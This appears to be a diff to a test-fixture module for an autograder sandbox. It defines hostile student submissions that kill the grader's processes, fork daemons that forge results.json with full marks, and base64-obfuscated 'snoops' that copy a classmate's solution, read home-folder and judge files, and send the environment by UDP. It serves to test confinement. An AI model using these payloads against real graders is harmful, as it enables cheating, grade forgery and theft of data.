@@ -8,15 +8,21 @@ full marks, and change nothing). Each is graded in a copy of the checkout.
 They test the confinement, so they pass the judge's reading of their source
 (grader.source_rules) as an attacker would: the checkout's path written out (it is known:
 /autograder/source on Gradescope), and what that reading refuses hidden in exec().
+
+The *snoops* (issue 30) hide all they do from any reading of the source: their attack is
+a base64 string run with exec(), so only the run-time walls stand. They read what lies
+outside the worker's allowlist (a classmate's module, files beside the checkout and in the
+home folder, the known submissions, the judge's command line) or send a datagram.
 """
 
 from __future__ import annotations
 
+import base64
 import textwrap
 from dataclasses import dataclass
 from pathlib import Path
 
-from grader.tests.variants import SOLUTIONS
+from solutions.variants import SOLUTIONS
 
 # Name a detached process takes (PR_SET_NAME, at most 15 characters): the test looks for it.
 DAEMON_NAME = "breakout-daemon"
@@ -133,14 +139,18 @@ def _parent(pid):
 
 
 _server = _os.getppid()
-_targets = {_server, _parent(_server)}
-for _entry in _os.listdir("/proc"):
-    if _entry.isdigit() and int(_entry) != _os.getpid():
-        try:
-            if _parent(int(_entry)) == _server:
-                _targets.add(int(_entry))
-        except (OSError, IndexError):
-            pass
+_targets = {_server}
+try:  # /proc shows a worker only its own entry: the judge and the workers stay unknown
+    _targets.add(_parent(_server))
+    for _entry in _os.listdir("/proc"):
+        if _entry.isdigit() and int(_entry) != _os.getpid():
+            try:
+                if _parent(int(_entry)) == _server:
+                    _targets.add(int(_entry))
+            except (OSError, IndexError):
+                pass
+except OSError:
+    pass
 for _pid in _targets:
     for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
         try:
@@ -155,18 +165,21 @@ import pathlib as _pathlib
 import time as _time
 
 
-def _reports():
-    # The grader's own command line names its report folder (--out).
-    server = _os.getppid()
-    with open(f"/proc/{{server}}/stat") as f:
-        judge = int(f.read().rsplit(")", 1)[1].split()[1])
-    with open(f"/proc/{{judge}}/cmdline") as f:
-        words = f.read().split("\\0")
+def _reports(server):
+    # The grader's own command line names its report folder (--out); a daemon that cannot
+    # read it lives on all the same, for the grader to find and kill.
+    try:
+        with open(f"/proc/{{server}}/stat") as f:
+            judge = int(f.read().rsplit(")", 1)[1].split()[1])
+        with open(f"/proc/{{judge}}/cmdline") as f:
+            words = f.read().split("\\0")
+    except OSError:
+        return []
     out = _pathlib.Path(words[words.index("--out") + 1])
     return [out / "results.json", *out.glob("*/results.json")]
 
 
-def _haunt():
+def _haunt(server):
     exec("import ctypes; ctypes.CDLL(None).prctl(15, b'{DAEMON_NAME}', 0, 0, 0)")
     for _ in range(16):
         if _os.fork() == 0:
@@ -174,7 +187,7 @@ def _haunt():
             break
     deadline = _time.time() + 60
     while _time.time() < deadline:
-        for path in _reports():
+        for path in _reports(server):
             try:
                 path.write_text(_json.dumps({{"score": 100, "output": "forged"}}))
             except OSError:
@@ -182,17 +195,130 @@ def _haunt():
         _time.sleep(0.2)
 
 
+_server = _os.getppid()
 _child = _os.fork()
 if _child == 0:
     try:
         _os.setsid()
         if _os.fork() == 0:
-            _haunt()
+            _haunt(_server)
     finally:
         _os._exit(0)
 _os.waitpid(_child, 0)
 '''),
 }
+
+
+# A snoop's module: what it does is only a decoded string run with exec(). Names written
+# in upper case (CHECKOUT, PLANTED, UDP_PORT, SEARCHED) are filled in per grading.
+_HIDDEN = '''
+import base64 as _base64
+
+exec(_base64.b64decode({payload!r}).decode())
+'''
+
+_SNOOPS = {
+    "copies_classmate": ("finds a classmate's mcc.py (the judge's command line, the folders "
+                         "above its own) and runs it in its own globals", '''
+import os
+
+MARK = "copier-" + "module"
+
+
+def _cmdline_folders():
+    server = os.getppid()
+    for pid in [server, *range(max(server - 4000, 1), server)]:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                words = f.read().decode(errors="replace").split("\\0")
+        except OSError:
+            continue
+        for word in words:
+            if word.startswith("/") and os.path.isdir(word):
+                yield word
+                yield os.path.dirname(word)
+                yield os.path.dirname(os.path.dirname(word))
+
+
+def _classmate():
+    for root in [*SEARCHED, *_cmdline_folders()]:
+        for folder, _, files in os.walk(root):
+            if folder.count(os.sep) - root.count(os.sep) > 4 or "mcc.py" not in files:
+                continue
+            try:
+                with open(os.path.join(folder, "mcc.py")) as f:
+                    text = f.read()
+            except OSError:
+                continue
+            if MARK not in text and "def matthews_corrcoef" in text:
+                return text
+    return None
+
+
+_text = _classmate()
+if _text is not None:
+    exec(compile(_text, "classmate.py", "exec"), globals())
+''', False),
+    "prints_planted_files": ("prints a file beside the checkout and one in the home folder",
+                             '''
+import os
+
+for path in [*PLANTED, os.path.expanduser("~/roster.csv")]:
+    try:
+        with open(path) as f:
+            print("read", path, f.read())
+    except OSError as error:
+        print(error)
+''', True),
+    "sends_udp": ("sends its environment in a UDP datagram to a listener on 127.0.0.1", '''
+import os
+import socket
+
+try:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(repr(dict(os.environ)).encode()[:1000], ("127.0.0.1", UDP_PORT))
+    print("datagram sent")
+except OSError as error:
+    print(error)
+''', True),
+    "reads_known_submissions": ("prints the known submissions (mutants, alternatives)", '''
+for path in KNOWN_SUBMISSIONS:
+    try:
+        with open(path) as f:
+            print(f.read())
+    except OSError as error:
+        print(error)
+''', True),
+    "reads_judge_cmdline": ("prints the command lines of the fork server and the judge", '''
+import os
+
+server = os.getppid()
+for pid in [server, *range(max(server - 4000, 1), server)]:
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            words = f.read().decode(errors="replace").split("\\0")
+        if "grader" in words or pid == server:
+            print(pid, " ".join(words))
+    except OSError as error:
+        if pid == server:
+            print(error)
+''', True),
+}
+
+
+def snoop_source(name: str, values: dict[str, object], stub: str) -> str:
+    """A snoop's module: its attack, with `values` (UPPER names) bound, hidden in exec();
+    after the stub when it `prints` (no code of its own), else alone (a thief)."""
+    _, attack, prints = _SNOOPS[name]
+    bound = "".join(f"{key} = {value!r}\n" for key, value in values.items())
+    payload = base64.b64encode((bound + textwrap.dedent(attack)).encode()).decode()
+    hidden = _HIDDEN.format(payload=payload)
+    return (stub + hidden) if prints else f'"""copier-module"""\n{hidden}'
+
+
+def snoops() -> dict[str, str]:
+    """{name: what it tries}."""
+    return {name: how for name, (how, _, _) in _SNOOPS.items()}
 
 
 @dataclass(frozen=True)
